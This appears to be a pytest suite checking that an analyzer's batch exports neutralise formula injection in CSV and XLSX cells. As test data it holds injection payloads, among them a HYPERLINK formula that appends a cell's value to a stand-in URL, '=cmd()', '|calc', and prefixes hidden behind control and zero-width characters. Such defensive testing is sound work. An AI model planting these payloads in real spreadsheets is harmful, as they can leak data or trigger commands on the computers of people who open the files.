"""Nothing that a stranger wrote is a formula in a spreadsheet."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from analyzer.batch.cells import harmless
from tests.batch.conftest import RunBatch


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "  =1",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
        "\uff0b1",
        "|calc",
        "%0A=1",
        "\u200b=1",
        "\x00=1",
    ],
)
def test_what_begins_as_a_formula_becomes_text(text):
    found = harmless(text)
    assert isinstance(found, str)
    assert found.startswith("'")


@pytest.mark.parametrize("value", ["Ada", "o/r", "1 = 1", "a@example.org", "", 1.5, -3, None])
def test_anything_else_stays(value):
    assert harmless(value) == value


def test_control_characters_go_and_length_is_bounded():
    assert harmless("a\x00b\x1fc") == "abc"
    assert len(str(harmless("x" * 100_000))) == 32_000


def test_no_cell_of_the_tables_is_a_formula(projects, batch_of: RunBatch, tmp_path: Path):
    file = tmp_path / "applicants.csv"
    evil = '=HYPERLINK("http://example.org/?"&A1)'
    with file.open("w", newline="") as out:
        csv.writer(out).writerows(
            [
                ["name", "@note", "repo"],
                [evil, "+1", projects[0]],
                ["\t-1", "x", "=cmd()"],
                ["#N/A", "#REF!", projects[1]],
            ]
        )
    batch_of(file)
    for name in ("batch.csv", "pairs.csv"):
        with (tmp_path / "out" / name).open(encoding="utf-8-sig", newline="") as table:
            cells = [cell for row in csv.reader(table) for cell in row]
        assert [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")] == []
    book = load_workbook(tmp_path / "out" / "batch.xlsx")
    found = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in found if cell.data_type in ("f", "e")] == []
    assert {"#N/A", "#REF!"} <= {cell.value for cell in found}  # a name is a name, also where it reads as an error
    assert f"'{evil}" in [cell.value for cell in found]
    book.close()
